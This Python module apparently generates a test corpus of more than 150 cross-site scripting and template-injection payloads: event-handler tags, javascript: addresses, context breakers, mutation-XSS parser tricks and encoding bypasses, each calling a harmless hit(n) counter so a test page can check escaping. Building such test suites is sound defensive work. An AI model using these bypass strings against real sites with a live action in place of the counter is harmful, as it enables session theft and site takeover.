"""Words that become a program where somebody forgets to escape them: over a hundred and fifty, made by construction.

Each calls `hit(number)` when it runs, so that a page that defines `hit` can count. They are put together from the ways in
which browsers start a script (elements, events, addresses, styles, foreign content that is parsed twice) and the ways
out of where words usually stand (text, attribute, comment, script, style, title, template).
"""

from __future__ import annotations

from itertools import count

EVENTS = (
    "<img src=x onerror={}>", "<img src=x:x onerror={}//", "<svg onload={}>", "<svg/onload={}>", "<body onload={}>",
    "<video src=x onerror={}></video>", "<audio src=x onerror={}></audio>", "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<marquee onstart={}>x</marquee>", "<object data=x onerror={}>",
    "<iframe onload={}></iframe>", "<style onload={}>p{{}}</style>", "<link rel=stylesheet href=x onerror={}>",
    "<script src=x onerror={}></script>", "<embed src=x onerror={}>", "<select autofocus onfocus={}><option>x</select>",
    "<textarea autofocus onfocus={}></textarea>", "<div style=animation-name:x onanimationstart={}>x</div>",
    "<a href=# onclick={}>x</a>", "<p onmouseover={}>x</p>", "<div onpointerenter={}>x</div>", "<button onfocus={} autofocus>x",
    "<form><button formaction=javascript:{}>x", "<input type=image src=x onerror={}>", "<svg><image href=x onerror={}></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>", "<svg><set onbegin={} attributeName=x></svg>",
    "<svg><script>{}</script></svg>", "<svg><script href=data:,{} /></svg>", "<svg><style><img src=x onerror={}></style></svg>",
    "<img src=1 oNeRrOr={}>", "<img\tsrc=x\tonerror={}>", "<img\nsrc=x\nonerror\n=\n{}>", "<img/src=x/onerror={}>",
    "<img src=x onerror=\"{}\">", "<img src=x onerror='{}'>", "<IMG SRC=x ONERROR={}>", "<x onclick={} tabindex=1 autofocus>x</x>",
)  # fmt: skip
PROGRAMS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "<script\n>{}</script\n>", "<script>{}", "<<script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script type=module>{}</script>", "<script>/*</script>*/{}</script>",
    "<script src=data:text/javascript,{}></script>", "<template shadowrootmode=open><script>{}</script></template>",
)  # fmt: skip
ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\tjavascript:{}", "java\nscript:{}", "java\tscript:{}", "javascript&colon;{}",
    "&#106;avascript:{}", "&#x6A;avascript:{}", "javascript://%0a{}", "javascript:/*http://example.org*/{}", "vbscript:{}",
    "data:text/html,<script>{}</script>", "data:image/svg+xml,<svg onload={}>", "\u0001javascript:{}", "javascript\u200b:{}",
    "https:javascript:{}", "//example.invalid/%22onclick={}", "https://a.invalid/\"onmouseover=\"{}", "https://a.invalid/'onmouseover='{}",
)  # fmt: skip
FRAMES = (
    "<a href=\"{}\">x</a>", "<iframe src=\"{}\"></iframe>", "<object data=\"{}\"></object>", "<embed src=\"{}\">", "<form action=\"{}\"><input type=submit>",
    "<base href=\"{}\">", "<meta http-equiv=refresh content=\"0;url={}\">", "<math href=\"{}\">x</math>", "<svg><a xlink:href=\"{}\"><text y=9>x</text></a></svg>",
    "<svg><use href=\"{}\"/></svg>", "<iframe srcdoc=\"<script>parent.hit(1)</script>{}\"></iframe>", "<link rel=import href=\"{}\">",
)  # fmt: skip
BREAKERS = (
    "\">{}", "'>{}", "-->{}", "]]>{}", "</title>{}", "</style>{}", "</script>{}", "</textarea>{}", "</template>{}", "</noscript>{}", "</svg>{}",
    "</math>{}", "</select>{}", "</iframe>{}", "</xmp>{}", "</main></body></html>{}", "%>{}", "?>{}", "*/{}", "\\\">{}", "\\x3c{}", "\u2028{}",
    "`{}`", "&lt;{}&gt;", "%3C{}%3E", "\ufeff{}", "\0{}", "\u202e{}",
)  # fmt: skip
PARSED_TWICE = (
    "<noscript><p title=\"</noscript>{}\">", "<math><mtext><table><mglyph><style><!--</style>{}", "<svg></p><style><a id=\"</style>{}\">",
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<math><mi><style><!--</style>{}--></style>", "<table><td><svg><style></table>{}",
    "<svg><desc><title>{}</title></desc></svg>", "<select><template><style><!--</select>{}", "<svg><foreignObject>{}</foreignObject></svg>",
    "<listing>&lt;img src=x onerror=hit(0)&gt;</listing>{}", "<xmp><p title=\"</xmp>{}\">", "<math><annotation-xml encoding=text/html>{}</annotation-xml></math>",
)  # fmt: skip
TEMPLATES = (
    "{{{{ {} }}}}", "{{{{constructor.constructor('{}')()}}}}", "{{% raw %}}{}{{% endraw %}}", "${{{}}}", "<%= {} %>", "#{{{}}}", "{{{{''.__class__}}}}{}",
    "{{{{ config }}}}{}", "[[${{{}}}]]", "*{{{}}}", "%s%n{}", "{{# {} #}}", "{{{{ self._TemplateReference__context }}}}{}",
)  # fmt: skip
FULLWIDTH = (
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u2039img src=x onerror={}\u203a",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\u00abscript\u00bb{}",
)


def payloads() -> list[str]:
    """Every payload once, with its number in it."""
    numbers = count(1)
    shapes = [*EVENTS, *PROGRAMS, *FULLWIDTH, *TEMPLATES]
    image = "<img src=x onerror={}>"
    shapes += [shape.replace("{}", image) for shape in (*BREAKERS, *PARSED_TWICE)]
    shapes += [FRAMES[number % len(FRAMES)].replace("{}", address) for number, address in enumerate(ADDRESSES)]
    shapes += [frame.replace("{}", ADDRESSES[0]) for frame in FRAMES]
    made = [_filled(shape, next(numbers)) for shape in shapes]
    return list(dict.fromkeys(made))


def addresses() -> list[str]:
    """Addresses that are programs, for fields that hold an address."""
    return [address.format(f"hit({9000 + number})") for number, address in enumerate(ADDRESSES)]


def _filled(shape: str, number: int) -> str:
    call = f"hit({number})"
    # Some shapes hold braces of their own for format(), those put together do not.
    return shape.format(call) if "{{" in shape or shape.count("{") == shape.count("{}") else shape.replace("{}", call)
